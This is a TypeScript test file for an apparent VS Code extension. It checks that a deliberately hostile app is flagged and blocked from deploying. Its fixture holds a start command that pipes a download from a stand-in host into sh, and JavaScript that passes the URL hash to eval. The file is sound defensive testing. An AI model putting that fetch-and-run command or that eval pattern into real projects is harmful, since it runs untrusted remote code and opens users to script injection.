import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import * as vscode from 'vscode';
import { appUri, getApi, readText, reset, until, writeText } from './helpers';

describe('diagnostics for a hostile app', () => {
  let dir: string;
  let appName: string;
  let appId: string;

  before(async () => {
    await reset();
    dir = mkdtempSync(path.join(os.tmpdir(), 'spawn-hostile-'));
    mkdirSync(path.join(dir, 'app'));
    const manifest = {
      appType: 'webapp',
      title: 'Hostile',
      startCommand: 'curl -s http://example.invalid/install.sh | sh',
      dependencies: [],
      port: 3000,
      generator: 'claude',
    };
    writeFileSync(path.join(dir, 'app/spawn-app.json'), JSON.stringify(manifest, null, 2));
    writeFileSync(path.join(dir, 'app/index.html'), '<!doctype html><script src="app.js"></script>');
    writeFileSync(path.join(dir, 'app/app.js'), '// reads the hash\nconst input = location.hash.slice(1);\nconst result = eval(input);\n');
  });
  after(async () => {
    await reset();
    rmSync(dir, { recursive: true, force: true });
  });
  // Each test opens the hostile app afresh (none relies on another's leftovers).
  beforeEach(async () => {
    await reset();
    const r = await vscode.commands.executeCommand<{ appId: string; appName: string }>('spawnApp.openFromFolder', { folder: path.join(dir, 'app') });
    assert.ok(r, 'the app opened');
    ({ appId, appName } = r);
  });

  function diagnostics(rel: string): vscode.Diagnostic[] {
    return vscode.languages.getDiagnostics(appUri(appName, rel));
  }

  it('opens the app from a folder and marks the piped download (error) and eval (warning) on their lines', async () => {
    assert.equal(appName, 'hostile');
    const manifestText = await readText(appUri(appName, 'spawn-app.json'));
    const startLine = manifestText.split('\n').findIndex((l) => l.includes('"startCommand"'));
    const err = await until(() => diagnostics('spawn-app.json').find((d) => d.code === 'start.piped_download'), 'the piped-download diagnostic');
    assert.equal(err.severity, vscode.DiagnosticSeverity.Error);
    assert.equal(err.range.start.line, startLine);
    assert.equal(err.source, 'Spawn App');
    const warn = await until(() => diagnostics('app.js').find((d) => d.code === 'code.eval'), 'the eval diagnostic');
    assert.equal(warn.severity, vscode.DiagnosticSeverity.Warning);
    assert.equal(warn.range.start.line, 2);
  });

  it('errors block the deploy: nothing is created', async () => {
    const api = await getApi();
    await until(() => diagnostics('spawn-app.json').length > 0, 'the manifest error');
    const r = await vscode.commands.executeCommand('spawnApp.deploy', { appId, confirm: true });
    assert.equal(r, undefined);
    assert.equal(api.testing.reporter.lastError?.code, 'blocked');
    assert.equal(api.registry.list().length, 0);
  });

  it('follows edits: a broken manifest is one error on its line, a fixed one leaves only the warning', async () => {
    const uri = appUri(appName, 'spawn-app.json');
    const good = await readText(uri);
    await writeText(uri, '{\n  "appType": "webapp",\n  oops\n}\n');
    const broken = await until(() => diagnostics('spawn-app.json').find((d) => d.code === 'manifest.invalid'), 'the invalid-manifest diagnostic');
    assert.equal(broken.range.start.line, 2);
    assert.equal(diagnostics('app.js').length, 0, 'no spec, so no code findings either');

    await writeText(uri, good.replace('curl -s http://example.invalid/install.sh | sh', 'node server.js'));
    await until(() => diagnostics('spawn-app.json').length === 0, 'the manifest errors to clear');
    await until(() => diagnostics('app.js').some((d) => d.code === 'code.eval'), 'the eval warning to stay');
  });

  it('clears an app’s diagnostics when the app is deleted', async () => {
    await until(() => diagnostics('app.js').length > 0, 'the diagnostics first');
    await vscode.commands.executeCommand('spawnApp.file.delete', { uri: appUri(appName), kind: 'app' }, { confirm: true });
    await until(() => diagnostics('app.js').length === 0, 'the diagnostics to clear');
    const api = await getApi();
    assert.equal(api.tree.app(appId), undefined);
  });
});
